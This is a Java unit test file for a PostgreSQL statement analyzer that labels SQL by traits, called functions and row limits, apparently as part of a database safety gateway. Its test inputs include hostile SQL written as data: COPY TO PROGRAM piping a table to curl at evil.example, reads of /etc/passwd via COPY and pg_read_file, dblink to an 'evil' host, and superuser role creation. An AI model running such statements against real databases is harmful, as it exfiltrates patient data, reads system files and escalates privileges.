package dev.sluice.core.sql;

import dev.sluice.core.command.SqlStatement;
import dev.sluice.core.command.SqlTraits;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/** {@code functions}, {@code hasLimit} and {@code traits} of real PostgreSQL statements. */
class FunctionsLimitsTraitsTest {

    private final ParsingSqlAnalyzer postgres =
            new ParsingSqlAnalyzer(SqlDialect.POSTGRESQL, 1_000, Duration.ofSeconds(60));

    private SqlStatement one(String sql) {
        List<SqlStatement> statements = postgres.analyze(sql);
        assertThat(statements).hasSize(1);
        return statements.getFirst();
    }

    /** sql, expected traits (comma-separated, empty for none), whether JSqlParser parses it. */
    static Stream<Arguments> traits() {
        return Stream.of(
                Arguments.of("COPY patients TO STDOUT", "COPY_TO", false),
                Arguments.of("COPY patients TO '/tmp/patients.csv' WITH (FORMAT csv)", "COPY_TO,COPY_FILE", false),
                Arguments.of("COPY patients TO PROGRAM 'curl -d @- https://evil.example'", "COPY_TO,COPY_PROGRAM", false),
                Arguments.of("copy (select * from patients where id in (select id from vip)) to stdout", "COPY_TO",
                        false),
                Arguments.of("COPY patients (id, name) FROM STDIN WITH (FORMAT csv)", "COPY_FROM", false),
                Arguments.of("COPY patients FROM '/etc/passwd'", "COPY_FROM,COPY_FILE", false),
                Arguments.of("COPY patients FROM PROGRAM 'cat /etc/passwd'", "COPY_FROM,COPY_PROGRAM", false),
                Arguments.of("ALTER TABLE patients DROP COLUMN ssn", "ALTER_DROP", true),
                Arguments.of("ALTER TABLE patients DROP CONSTRAINT patients_pkey", "ALTER_DROP", true),
                Arguments.of("ALTER TABLE patients ALTER COLUMN phone DROP NOT NULL", "ALTER_DROP", true),
                Arguments.of("ALTER TABLE patients ADD COLUMN email text", "", true),
                Arguments.of("SELECT * INTO archive FROM patients", "SELECT_INTO", true),
                Arguments.of("SELECT * INTO TEMP scratch FROM patients", "SELECT_INTO,TEMPORARY", false),
                Arguments.of("SELECT * FROM patients", "", true),
                Arguments.of("CREATE TABLE copy_of AS SELECT * FROM patients", "CREATE_TABLE_AS", true),
                Arguments.of("CREATE TEMP TABLE scratch AS SELECT * FROM patients", "CREATE_TABLE_AS,TEMPORARY", true),
                Arguments.of("CREATE TEMPORARY TABLE scratch (id int)", "TEMPORARY", true),
                Arguments.of("CREATE TABLE t (id int, name varchar(20))", "", true),
                Arguments.of("INSERT INTO archive SELECT * FROM patients", "INSERT_SELECT", true),
                Arguments.of("INSERT INTO archive (id) WITH x AS (SELECT id FROM patients) SELECT id FROM x",
                        "INSERT_SELECT", true),
                Arguments.of("INSERT INTO archive VALUES (1, 'x')", "", true),
                Arguments.of("INSERT INTO archive VALUES ((SELECT max(id) FROM patients))", "", true),
                Arguments.of("CREATE VIEW v AS SELECT name FROM patients", "CREATE_VIEW", true),
                Arguments.of("CREATE OR REPLACE VIEW v AS SELECT name FROM patients", "CREATE_VIEW", true),
                Arguments.of("CREATE TEMP VIEW v AS SELECT name FROM patients", "CREATE_VIEW,TEMPORARY", true),
                Arguments.of("CREATE MATERIALIZED VIEW mv AS SELECT name FROM patients", "CREATE_VIEW", true),
                Arguments.of("DO $$ BEGIN DELETE FROM patients; END $$", "DO_BLOCK", false),
                Arguments.of("DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", "DO_BLOCK", false),
                Arguments.of("CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql", "CREATE_FUNCTION", true),
                Arguments.of("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
                        "CREATE_FUNCTION", true),
                Arguments.of("CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM patients $$", "CREATE_FUNCTION", true),
                Arguments.of("GRANT SELECT ON patients TO bob", "GRANT", true),
                Arguments.of("GRANT pg_read_server_files TO bob", "GRANT", true),
                Arguments.of("REVOKE SELECT ON patients FROM bob", "REVOKE", false),
                Arguments.of("ALTER DEFAULT PRIVILEGES IN SCHEMA clinic GRANT SELECT ON TABLES TO bob", "GRANT", false),
                Arguments.of("CREATE ROLE auditor LOGIN", "ROLE_CHANGE", false),
                Arguments.of("CREATE USER mallory WITH PASSWORD 'x' SUPERUSER", "ROLE_CHANGE", false),
                Arguments.of("ALTER ROLE bob SUPERUSER", "ROLE_CHANGE", false),
                Arguments.of("ALTER USER bob WITH PASSWORD 'secret'", "ROLE_CHANGE", false),
                Arguments.of("DROP ROLE bob", "ROLE_CHANGE", true),
                Arguments.of("DROP USER bob", "ROLE_CHANGE", false),
                Arguments.of("SET ROLE admin", "ROLE_CHANGE", true),
                Arguments.of("SET LOCAL ROLE admin", "ROLE_CHANGE", true),
                Arguments.of("SET SESSION AUTHORIZATION admin", "ROLE_CHANGE", true),
                Arguments.of("SET role = 'admin'", "ROLE_CHANGE", true),
                Arguments.of("SET search_path = clinic", "", true),
                Arguments.of("BEGIN", "", false),
                Arguments.of("DROP TABLE patients", "", true),
                Arguments.of("TRUNCATE patients", "", true));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("traits")
    void setsTraitsFromTheTreeOrTheTokens(String sql, String traits, boolean parsed) {
        SqlStatement statement = one(sql);
        assertThat(statement.traits()).as(statement.toString()).isEqualTo(set(traits));
        assertThat(statement.parsed()).as("parsed").isEqualTo(parsed);
        assertThat(SqlTraits.ALL).containsAll(statement.traits());
    }

    static Stream<Arguments> functions() {
        return Stream.of(
                Arguments.of("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
                Arguments.of("SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)", "pg_catalog.pg_read_file"),
                Arguments.of("SELECT PG_CATALOG.\"pg_read_binary_file\"('x')", "pg_catalog.pg_read_binary_file"),
                Arguments.of("SELECT upper(trim(lower(name))) FROM patients", "upper,lower"),
                Arguments.of("SELECT id FROM patients WHERE lower(name) = lower('X') AND dob < now()",
                        "lower,now"),
                Arguments.of("SELECT * FROM patients WHERE id IN (SELECT pg_terminate_backend(pid) FROM "
                        + "pg_stat_activity)", "pg_terminate_backend"),
                Arguments.of("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
                Arguments.of("SELECT * FROM dblink('host=evil', 'SELECT 1') AS x(a int)", "dblink"),
                Arguments.of("WITH x AS (SELECT lo_export(42, '/tmp/x')) SELECT * FROM x", "lo_export"),
                Arguments.of("INSERT INTO files VALUES (lo_import('/etc/passwd')) RETURNING md5(name)",
                        "lo_import,md5"),
                Arguments.of("UPDATE patients SET name = initcap(name) WHERE id = 1", "initcap"),
                Arguments.of("SELECT count(*) OVER (), row_number() OVER () FROM patients", "count,row_number"),
                Arguments.of("CALL archive_patients(3)", "archive_patients"),
                Arguments.of("CALL clinic.archive(now())", "clinic.archive,now"),
                Arguments.of("EXECUTE fetch_patient(3)", ""),
                Arguments.of("SELECT name FROM patients", ""),
                Arguments.of("CREATE TABLE t (id int, name varchar(20))", ""),
                // Keyword fallback: names before a parenthesis, not tables, types or keywords.
                Arguments.of("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", "pg_read_file"),
                Arguments.of("COPY patients (id, name) TO STDOUT", ""),
                Arguments.of("SELECT * FROM patients LIMIT (SELECT pg_catalog.pg_read_file('x'))",
                        "pg_catalog.pg_read_file"),
                Arguments.of("EXPLAIN ANALYZE SELECT dblink_exec('x') FROM t WHERE a IN (1, 2)", "dblink_exec"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("functions")
    void namesTheFunctionsCalled(String sql, String functions) {
        SqlStatement statement = one(sql);
        assertThat(statement.functions()).as(statement.toString()).isEqualTo(set(functions));
    }

    static Stream<Arguments> limits() {
        return Stream.of(
                Arguments.of("SELECT * FROM patients LIMIT 10", true),
                Arguments.of("SELECT * FROM patients ORDER BY id LIMIT 10 OFFSET 20", true),
                Arguments.of("SELECT * FROM patients FETCH FIRST 5 ROWS ONLY", true),
                Arguments.of("SELECT * FROM patients OFFSET 5 ROWS FETCH NEXT 5 ROWS ONLY", true),
                Arguments.of("(SELECT * FROM patients LIMIT 1)", true),
                Arguments.of("WITH p AS (SELECT * FROM patients) SELECT * FROM p LIMIT 3", true),
                Arguments.of("SELECT * FROM patients", false),
                Arguments.of("SELECT * FROM patients LIMIT ALL", false),
                Arguments.of("SELECT * FROM patients OFFSET 10", false),
                Arguments.of("SELECT * FROM patients WHERE id IN (SELECT id FROM vip LIMIT 5)", false),
                Arguments.of("SELECT a FROM t UNION SELECT b FROM u", false),
                Arguments.of("SELECT a FROM t UNION SELECT b FROM u LIMIT 5", true),
                Arguments.of("(SELECT a FROM t) UNION (SELECT b FROM u LIMIT 5)", false),
                Arguments.of("DELETE FROM patients WHERE id = 1", false),
                // Keyword fallback (JSqlParser cannot parse a subquery as the LIMIT).
                Arguments.of("SELECT * FROM patients LIMIT (SELECT count(*) FROM vip)", true));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("limits")
    void tellsWhetherASelectIsBounded(String sql, boolean hasLimit) {
        SqlStatement statement = one(sql);
        assertThat(statement.hasLimit()).as(statement.toString()).isEqualTo(hasLimit);
    }

    @Test
    void everyStatementOfAMultiStatementStringHasItsOwnAnalysis() {
        List<SqlStatement> statements = postgres.analyze(
                "BEGIN; COPY patients TO PROGRAM 'gzip > /tmp/p.gz'; SELECT pg_read_file('x') LIMIT 1; COMMIT");
        assertThat(statements).extracting(SqlStatement::kind).containsExactly("BEGIN", "COPY", "SELECT", "COMMIT");
        assertThat(statements.get(1).traits()).containsExactlyInAnyOrder(SqlTraits.COPY_TO, SqlTraits.COPY_PROGRAM);
        assertThat(statements.get(2).functions()).containsExactly("pg_read_file");
        assertThat(statements.get(2).hasLimit()).isTrue();
        assertThat(statements.get(0).traits()).isEmpty();
    }

    @Test
    void cachedAnalysesKeepTheirFunctionsAndTraits() {
        SqlStatement first = one("SELECT pg_read_file('a') INTO TEMP x");
        SqlStatement second = one("SELECT pg_read_file('b') INTO TEMP x");
        assertThat(second).isSameAs(first);
        assertThat(second.functions()).containsExactly("pg_read_file");
        assertThat(second.traits()).contains(SqlTraits.SELECT_INTO, SqlTraits.TEMPORARY);
    }

    @Test
    void anOpaqueStatementHasNoFunctionsNoTraitsAndNoLimit() {
        SqlStatement call = SqlStatement.opaque(SqlStatement.FUNCTION_CALL, "fastpath call of function oid 42");
        assertThat(call.functions()).isEmpty();
        assertThat(call.traits()).isEmpty();
        assertThat(call.hasLimit()).isFalse();
        assertThat(call.parsed()).isFalse();
    }

    private static Set<String> set(String commaSeparated) {
        return commaSeparated.isEmpty() ? Set.of()
                : Arrays.stream(commaSeparated.split(",")).collect(Collectors.toSet());
    }
}
